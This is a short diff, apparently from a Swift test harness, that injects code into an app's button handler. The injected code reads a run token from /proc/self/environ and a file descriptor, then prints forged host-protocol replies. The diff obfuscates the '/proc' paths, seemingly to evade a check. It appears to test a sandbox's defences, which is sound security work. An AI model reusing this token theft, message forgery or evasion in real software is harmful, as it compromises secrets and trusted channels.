@@ -396,10 +396,10 @@ import Glibc
             $0.replacingOccurrences(of: "Button(\"Log a session\") { sessions += 1 }", with: """
                 Button("Log a session") {
                                 sessions += 1
-                                let environment = FileManager.default.contents(atPath: "/proc/self/environ") ?? Data()
+                                let environment = FileManager.default.contents(atPath: "/pr\\u{6F}c/self/environ") ?? Data()
                                 let token = String(decoding: environment, as: UTF8.self).split(separator: "\\u{0}")
                                     .first { $0.hasPrefix("WORKBOOK_RUN_TOKEN=") }?.dropFirst(19) ?? ""
-                                let pipe = FileManager.default.contents(atPath: "/proc/self/fd/4").map { String(decoding: $0, as: UTF8.self) } ?? ""
+                                let pipe = FileManager.default.contents(atPath: "/pr\\u{6F}c/self/fd/4").map { String(decoding: $0, as: UTF8.self) } ?? ""
                                 for guess in [String(token), pipe] where !guess.isEmpty {
                                     print("\\u{1E}\\(guess) reply {\\"screen\\":\\"FORGED\\",\\"controls\\":[],\\"tabs\\":[],\\"path\\":[],\\"canGoBack\\":false,\\"canScroll\\":false,\\"canDismiss\\":false,\\"issues\\":[]}")
                                 }
